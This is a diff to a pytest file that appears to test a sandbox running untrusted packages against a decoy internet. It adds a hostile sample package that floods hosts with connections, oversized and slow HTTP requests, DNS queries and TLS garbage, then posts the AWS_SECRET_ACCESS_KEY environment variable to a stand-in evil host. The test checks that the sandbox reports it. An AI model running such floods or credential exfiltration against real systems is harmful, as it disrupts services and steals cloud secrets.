@@ -1,21 +1,26 @@
 """A package reaches nothing but a read-only view of the index, and every attempt is refused at once
 and reported."""
 
+import re
 import socket
+from contextlib import suppress
+from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import Snakehook
+from conftest import Serve, Service, Snakehook
 from hostile import (
     PROBES,
     add_probe,
     assert_nothing_is_left,
+    family_of,
     findings,
     in_one_jail,
     last_json,
+    own_phase,
     targets,
 )
-from standins import Index, Reply, redirect
+from standins import Index, Reply, redirect, wait_for
 
 
 def probe(
@@ -160,6 +165,120 @@ def test_what_the_decoy_internet_takes_reaches_nobody_else(
         plain = host.removeprefix("::ffff:")
         assert {told[target]["text"] for target in told if plain in target} == {"stolen"}, host
     assert len(findings(report, "network.attempt")) >= len(ADDRESSES)
+
+
+# Each in a thread of its own, all at once, for a few seconds; then what matters.
+FLOODS = """
+import os, socket, ssl, threading, time, urllib.request
+END = time.monotonic() + 3
+TARGET = ("45.33.32.156", 80)
+COUNTS = {}
+def flood(work):
+    def go():
+        number = 0
+        while time.monotonic() < END:
+            try:
+                work(number)
+            except OSError:
+                pass
+            number += 1
+        COUNTS[work.__name__] = number
+    threading.Thread(target=go).start()
+def connect(target=TARGET):
+    return socket.create_connection(target, timeout=2)
+@flood
+def connections(number):
+    for last in range(1, 50):
+        with connect((f"45.33.{number % 256}.{last}", 4000 + last)) as sock:
+            sock.sendall(b"x")
+@flood
+def bodies(number):
+    with connect() as sock:
+        sock.sendall(b"POST / HTTP/1.1\\r\\nContent-Length: 99999999999\\r\\n\\r\\n")
+        for _ in range(30):
+            sock.sendall(bytes(1 << 20))
+@flood
+def slow(number):
+    held = [connect() for _ in range(50)]
+    for sock in held:
+        sock.sendall(b"POST / HTTP/1.1\\r\\nContent-Length: 1000\\r\\n\\r\\n")
+    time.sleep(0.5)
+    for sock in held:
+        sock.sendall(b"a")
+        sock.close()
+@flood
+def names(number):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        for _ in range(200):
+            label = os.urandom(10).hex().encode()
+            head = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
+            sock.sendto(head + b"\\x14" + label + b"\\4evil\\3xyz\\0\\0\\1\\0\\1", ("8.8.8.8", 53))
+@flood
+def garbage(number):
+    with connect() as sock:
+        sock.sendall(b"\\x16\\x03\\x01" + os.urandom(3000))
+@flood
+def pipelined(number):
+    with connect() as sock:
+        sock.sendall(b"GET / HTTP/1.1\\r\\n\\r\\n" * 2000)
+@flood
+def certificates(number):
+    context = ssl._create_unverified_context()
+    with context.wrap_socket(connect(), server_hostname=f"n{number}.evil-host.xyz") as sock:
+        sock.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
+        sock.recv(9)
+for thread in threading.enumerate():
+    if thread is not threading.current_thread():
+        thread.join()
+body = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
+print(urllib.request.urlopen("http://last.evil-host.xyz/", body, timeout=20).status, COUNTS)
+"""
+MAX_WATCH_BYTES = 300 << 20
+
+
+def peak_bytes(service: Service) -> int:
+    """The most memory that any watch of a service has had so far."""
+    peaks = [0]
+    for pid in family_of(service.process.pid).watches:
+        with suppress(OSError):
+            # "VmHWM:     51234 kB".
+            found = re.search(r"VmHWM:\s+(\d+) kB", Path(f"/proc/{pid}/status").read_text())
+            peaks.append(int(found[1]) << 10 if found else 0)
+    return max(peaks)
+
+
+def test_floods_of_the_decoy_internet_cost_no_neighbour_and_no_memory(
+    serve: Serve, index: Index
+) -> None:
+    index.add_wheel("floods", "1.0", {"floods.py": FLOODS})
+    # It is at work while the floods come.
+    calm_source = "import select\nselect.select([], [], [], 6)\nprint('calm')\n"
+    index.add_wheel("calm", "1.0", {"calm.py": calm_source})
+    peak = 0
+    with serve(MAX_CONCURRENCY=2, RUN_TIMEOUT_SEC=30) as service:
+        floods = service.accept("floods", mode="execute_module", module_name="floods")
+        calm = service.accept("calm", mode="execute_module", module_name="calm")
+
+        def both_are_finished() -> bool:
+            nonlocal peak
+            peak = max(peak, peak_bytes(service))
+            return all(service.report(run)["status"] == "finished" for run in (floods, calm))
+
+        wait_for(both_are_finished, 150, every_sec=0.1)
+        neighbour, report = service.report(calm), service.report(floods)
+    assert (neighbour["outcome"], neighbour["verdict"]) == ("ok", "clean"), neighbour["reason"]
+    phase = own_phase(report)
+    assert phase["stdout"]["text"].startswith("200 "), (report["reason"], phase)
+    assert "sends AWS_SECRET_ACCESS_KEY to http://last.evil-host.xyz/" in findings(
+        report, "secret.sent"
+    )
+    assert report["coverage"]["dropped_events"] > 1000
+    cut = "\n".join(report["coverage"]["notes"])
+    assert "were not kept or looked at" in cut
+    assert any("did so much" in title for title in findings(report, "limit.hit"))
+    assert 0 < peak < MAX_WATCH_BYTES
+    assert len(report["network"]) <= 500
+    assert len(report["requests"]) <= 500
 
 
 TUNNEL = """
